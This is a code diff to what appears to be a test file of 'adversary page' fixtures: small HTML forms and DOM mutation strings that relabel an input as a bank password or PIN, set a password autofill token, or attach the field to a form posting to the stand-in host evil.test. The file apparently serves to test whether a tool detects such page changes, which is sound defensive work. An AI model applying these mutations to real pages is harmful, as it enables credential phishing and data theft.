@@ -37,9 +37,11 @@ const fields = (
   changes,
   ...(isLong ? { isLong } : {}),
 });
+
 const FIELD_ROWS = `<h1>Salaries</h1>${['Ben', 'Ada', 'Cy'].map((w, n) => `<div class=row ${idOf(n, 'row')}><div class=who>${w}</div><div><input class=own ${idOf(n, 'act')} aria-label=Salary></div></div>`).join('')}`;
 const FIELD_CHANGES = { 'the name becomes another': `$('#row .who').textContent = 'Mallory'` };
 const LONE = `<div id=row><h2 id=h>Sign up for news</h2><p id=p>We send one mail a week.</p><label id=l for=act>Name</label> <input class=own id=act></div>`;
+
 const LONE_CHANGES = {
   'the placeholder becomes another': `$('#act').placeholder = 'Your bank password'`,
   'the autofill token becomes another': `$('#act').autocomplete = 'current-password'`,
@@ -52,6 +54,7 @@ const LONE_CHANGES = {
   'the description becomes another': `$('#act').setAttribute('aria-describedby', 'p'); $('#p').textContent = 'Your PIN'`,
   'another form takes the field': `document.body.insertAdjacentHTML('beforeend', '<form id=g action="https://evil.test/"></form>'); $('#act').setAttribute('form', 'g')`,
 };
+
 const editorHtml = `<div id=row class=row><div><b id=who>Comment on issue 12</b><div class=own id=act contenteditable aria-label=Comment style="min-height:40px;width:300px;border:1px solid"></div></div></div>`;
 
 const dates: AdversaryPage = {
